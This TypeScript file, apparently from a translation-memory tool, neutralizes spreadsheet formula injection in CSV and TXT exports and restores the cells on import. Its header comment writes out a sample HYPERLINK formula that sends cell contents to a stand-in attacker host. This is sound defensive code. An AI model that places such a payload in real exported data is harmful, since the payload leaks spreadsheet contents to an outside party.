/**
 * Formula injection in delimited exports (CSV, tab-separated TXT). A spreadsheet that opens such a
 * file turns a cell beginning with `=`, `+`, `-`, `@`, TAB or CR into a formula, so an entry like
 * `=HYPERLINK("http://evil.example?"&A1,"click")` written by one user runs in the spreadsheet of
 * whoever exports the bank. As OWASP describes, such a cell is written with a leading single
 * quote (`'=HYPERLINK(...)`), which spreadsheets show as text; writers keep the field quoted.
 * A lone `-` and plain signed numbers are left alone: they cannot hold a formula.
 *
 * The quote is taken off again when one of our CSV or TXT files is imported, so an export
 * re-imports to the same entries (`-ing` stays `-ing`). To make that exact, a value that already
 * begins with quotes before such a character gets one more quote on export, and loses one on
 * import: `'=x` <-> `''=x`. XLSX needs none of this: its cells are written as strings, which
 * spreadsheets never evaluate.
 */
import type { Entry } from './entry';

/** A cell a spreadsheet would evaluate: a formula character first, or after quotes we added. */
const FORMULA_START = /^'*[=+\-@\t\r]/;
/** A cell as neutralizeFormula writes it (writers quote these fields too). */
export const NEUTRALIZED_CELL = /^'+[=+\-@\t\r]/;

/** A lone dash and signed numbers (`-`, `-5`, `+86`): no formula can hide in them, so they stay as typed. */
const HARMLESS = /^(?:-|[+-]?\d+(?:\.\d+)?)$/;

/** The cell as it is safe to write: a leading `'` when a spreadsheet would take it as a formula. */
export function neutralizeFormula(value: string): string {
  return FORMULA_START.test(value) && !HARMLESS.test(value) ? `'${value}` : value;
}

/** The value a neutralized cell stood for: one leading `'` taken off. */
export function restoreFormula(cell: string): string {
  return NEUTRALIZED_CELL.test(cell) ? cell.slice(1) : cell;
}

/** The entries of an imported CSV or TXT with the export's leading quotes taken off again. */
export async function* restoreFormulaCells(entries: AsyncIterable<Entry>): AsyncGenerator<Entry> {
  for await (const entry of entries) {
    const restored: Entry = { ...entry, source: restoreFormula(entry.source), target: restoreFormula(entry.target) };
    if (entry.note !== undefined) restored.note = restoreFormula(entry.note);
    yield restored;
  }
}
